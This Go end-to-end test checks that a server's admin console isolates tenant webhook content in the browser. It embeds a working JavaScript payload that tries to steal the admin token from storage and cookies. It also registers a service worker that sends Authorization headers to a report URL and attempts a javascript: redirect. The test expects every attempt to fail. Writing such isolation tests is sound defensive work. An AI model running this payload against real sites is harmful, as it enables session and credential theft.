package console_test

import (
	"net/http"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/labstack/echo/v4"

	"github.com/corehq/core/internal/nodetest"
	"github.com/corehq/core/server/servertest"
	"github.com/corehq/core/tenant"
)

// originSDL binds the tenant's webhooks of TestTenantContentInABrowser.
const originSDL = `type Note { text: String }
type Mutation {
  page(payload: WebhookPayload): WebhookResponse @fn(name: "page", version: "v1")
  sw(payload: WebhookPayload): WebhookResponse @fn(name: "sw", version: "v1")
  jsredirect(payload: WebhookPayload): WebhookResponse @fn(name: "jsredirect", version: "v1")
}`

// attack is the script of the tenant's page: it marks that it ran, then
// tries each way of acting as the service and reports every outcome to
// the test's channel (REPORT), and last navigates to javascript:.
const attack = `(async () => {
  document.documentElement.dataset.ran = '1';
  const report = REPORT;
  const hit = (kind, value) => fetch(report + '/hit?' + new URLSearchParams({ kind, value: String(value), from: location.origin }), { mode: 'no-cors' }).catch(() => {});
  await hit('ran', '');
  const attempt = async (kind, f) => { try { await hit(kind, await f()); } catch (e) { await hit(kind + '-failed', e.name); } };
  await attempt('sessionStorage', () => sessionStorage.getItem('core.console.adminToken'));
  await attempt('localStorage', () => JSON.stringify(Object.assign({}, localStorage)));
  await attempt('cookie-read', () => document.cookie);
  await attempt('cookie-set', () => { document.cookie = 'planted=1; path=/'; return document.cookie; });
  await attempt('service-worker', async () => {
    const r = await navigator.serviceWorker.register('/webhook/origin.test/sw?report=' + encodeURIComponent(report), { scope: '/' });
    await navigator.serviceWorker.ready;
    return r.scope;
  });
  await hit('done', '');
  location.href = 'javascript:void(fetch(' + JSON.stringify(report + '/hit?kind=javascript-url&from=' + encodeURIComponent(location.origin)) + ', { mode: "no-cors" }))';
})();`

// originFunctions are the tenant's functions: the page (its cookie asks
// for the whole host), the worker's script (asking for scope "/"; at
// sign-in it would send the admin token of every request it sees), and
// the redirect to javascript:.
var originFunctions = map[string]string{
	"page": `const attack = ` + jsString(attack) + `;
exports.main = (input, cb) => {
  const q = JSON.parse(input.args.payload).url.queryParams;
  const report = JSON.stringify(String(q.report || '')).replace(/</g, '\\u003c');
  cb({ headers: { 'Content-Type': 'text/html; charset=utf-8', 'Set-Cookie': 'tenant=1; Path=/' },
    body: '<!doctype html><title>Tenant page</title><h1>Tenant page</h1><script>' + attack.replace('REPORT', report) + '</script>' }, null);
};`,
	"sw": `exports.main = (input, cb) => {
  const report = JSON.stringify(String(JSON.parse(input.args.payload).url.queryParams.report || ''));
  cb({ headers: { 'Content-Type': 'text/javascript', 'Service-Worker-Allowed': '/' }, body: 'const report = ' + report + ';\n' +
    "self.addEventListener('install', () => self.skipWaiting());\n" +
    "self.addEventListener('activate', (e) => e.waitUntil(self.clients.claim()));\n" +
    "self.addEventListener('fetch', (e) => { const a = e.request.headers.get('authorization'); " +
    "if (a) fetch(report + '/hit?kind=sw-token&from=worker&value=' + encodeURIComponent(a), { mode: 'no-cors' }); });\n" }, null);
};`,
	"jsredirect": `exports.main = (input, cb) => cb({ status: 302, headers: { Location: 'javascript:alert(document.domain)' } }, null);`,
}

// jsString quotes s as a JavaScript string literal (JSON's rules).
func jsString(s string) string {
	r := strings.NewReplacer(`\`, `\\`, `"`, `\"`, "\n", `\n`)
	return `"` + r.Replace(s) + `"`
}

// probeWorker is a service worker of the origin's own (a route of the
// test server), standing for one that something else managed to
// register: the console must remove it before it reads the token.
const probeWorker = "/test-probe/worker.js"

// TestTenantContentInABrowser drives Debian's chromium (e2e/origin.mjs)
// against the real server: the operator signs in to the console, then, in
// the same tab, opens a tenant's webhook page whose script tries to read
// the console's sessionStorage, localStorage and cookies, set a cookie,
// register a service worker with scope "/" (its script served by another
// webhook) and navigate to javascript:. Each attempt fails: the page is
// sandboxed, its cookie stays on its own path, the worker's script is
// refused, the javascript: redirect answers 502, a new console tab is
// controlled by no worker and the admin token reaches nothing of the
// tenant's. The same page on the test's own origin runs and reports (the
// control). Last, a worker that something else registered is removed by
// the console before it asks for the token.
//
// hostile checklist 51: the admin token never reachable by a tenant's
// content (webhook responses on the same origin, service workers).
// hostile checklist 41: a redirect to javascript: is rejected; Set-Cookie
// is confined.
func TestTenantContentInABrowser(t *testing.T) {
	if testing.Short() {
		t.Skip("-short: the browser test starts chromium")
	}
	chromium, node, _ := browserTools(t)
	_, script := nodetest.Script(t, "console origin browser test", filepath.Join("e2e", "origin.mjs"), "playwright-core")

	env := servertest.Start(t, servertest.WithRoutes(func(e *echo.Echo) {
		e.GET(probeWorker, func(c echo.Context) error {
			c.Response().Header().Set("Service-Worker-Allowed", "/")
			return c.Blob(http.StatusOK, "text/javascript", []byte("self.addEventListener('install', () => self.skipWaiting());\n"+
				"self.addEventListener('activate', (e) => e.waitUntil(self.clients.claim()));\n"+
				"self.addEventListener('fetch', () => {});\n"))
		})
	}))
	env.PutRelease("origin", "v1", originSDL)
	token := env.CreateInstance("origin.test", "origin", "v1", tenant.Settings{AnonymousRequests: true})
	for name, src := range originFunctions {
		if res, body := env.DoRaw("PUT", "/admin/v1/apps/origin/functions/"+name+"/v1", env.AdminHeaders(), src); res.StatusCode != 200 && res.StatusCode != 201 {
			t.Fatalf("publishing %s: %d %s", name, res.StatusCode, body)
		}
	}
	var hooks []any
	for name := range originFunctions {
		hooks = append(hooks, map[string]any{"name": name, "query": map[string]any{"type": "Mutation", "field": name}})
	}
	if status, body := env.GraphQL("origin.test", token, `mutation($v: CoreUpsertInputUnion!) { upsert(values: $v) { id } }`,
		map[string]any{"v": map[string]any{"Webhook": hooks}}); status != 200 || body["errors"] != nil {
		t.Fatalf("saving the webhooks: %d %v", status, body)
	}

	runScript(t, node, script, 3*time.Minute,
		"CORE_URL="+env.URL,
		"CORE_ADMIN_TOKEN="+servertest.AdminToken,
		"CORE_HOOKS="+env.URL+"/webhook/origin.test",
		"CORE_PROBE_WORKER="+probeWorker,
		"CHROMIUM="+chromium,
	)
}
